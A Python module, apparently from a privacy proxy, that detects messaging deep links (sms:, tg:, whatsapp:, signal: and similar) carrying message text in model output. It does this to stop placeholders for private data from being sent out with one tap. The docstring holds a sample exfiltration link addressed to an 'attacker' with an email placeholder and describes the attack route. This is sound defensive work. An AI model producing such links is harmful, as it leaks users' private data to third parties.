"""A messaging deep link with a message in it is a URL that sends (issue 12, atk24b F1).

`mailto:` and `tel:` links are restored: the address is the client's own (`proxy.guard.urls`). A messaging app's
link that carries a message's text (`sms:+15555550100?body=...`, `[x](tg:msg?to=attacker&text=<EMAIL_ADDRESS_1>)`,
`im:`, `whatsapp:`, `skype:`, `facetime:`, `xmpp:...?message;body=`, `slack:`, `msteams:`, `viber:`, `signal:`...)
opens the app with that message written to the recipient the model chose: one tap sends it. Such a link, from its
scheme to where a Markdown target, a bare URL or an attribute ends it, keeps every placeholder, as a network URL
does; one without a message parameter (`sms:<PHONE_NUMBER_1>`, the client's own number) is read as before. A
stream reads it with the text its context keeps before the placeholder (`proxy.guard.urls.url_context`).
"""

from __future__ import annotations

import re

_PLACEHOLDER = r"<[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?>"  # `proxy.guard.vault.PLACEHOLDER`
_SCHEMES = (r"sms|smsto|mms|mmsto|tg|im|imessage|whatsapp|skype|facetime(?:-audio)?|xmpp|slack|msteams|viber"
            r"|signal|sgnl|line|fb-messenger|messenger|threema|wechat|weixin|wire|discord|teams|sip|sips"
            r"|callto|tel")  # (yaml25: atk24a F16, `tel:` and `callto:` with a message's text)
_LINK = re.compile(rf"(?i)(?<![\w+.\-])(?:{_SCHEMES})(?::|&#0*58;?|&#x0*3a;?|&colon;)"
                   rf"(?:{_PLACEHOLDER}|&amp;|[^\s<>\"'`)\]])*")
_MESSAGE = re.compile(r"(?i)(?:[?&;]|&amp;)(?:body|text|message|msg|draft|content|topic)=")
_SCHEME_WORDS = frozenset(w for w in re.sub(r"\(\?:-audio\)\?", "|facetime-audio", _SCHEMES).split("|"))
_ENTITY_COLON = re.compile(r"(?i)&#0*58;?|&#x0*3a;?|&colon;")
_WORD_COLON = re.compile(r"(?<![A-Za-z-])([A-Za-z][A-Za-z-]{1,15}):")  # a word before a colon (a scheme's place)


def _named(text: str) -> bool:
    """Whether a colon of `text` follows one of the schemes (`_SCHEME_WORDS`), a word read once (no alternation of
    every scheme tried at every position)."""
    if any(m.group(1).lower() in _SCHEME_WORDS for m in _WORD_COLON.finditer(text)):
        return True
    return "&" in text and _ENTITY_COLON.search(text) is not None


def message_links(text: str) -> list[tuple[int, int, int, str]]:
    """(start, end of its scheme, end, "") of each messaging link of `text` that carries a message (above)."""
    if not _named(text):
        return []
    out: list[tuple[int, int, int, str]] = []
    for m in _LINK.finditer(text):
        if _MESSAGE.search(m.group()) is not None:
            out.append((m.start(), m.start() + m.group().find(":") + 1, m.end(), ""))
    return out
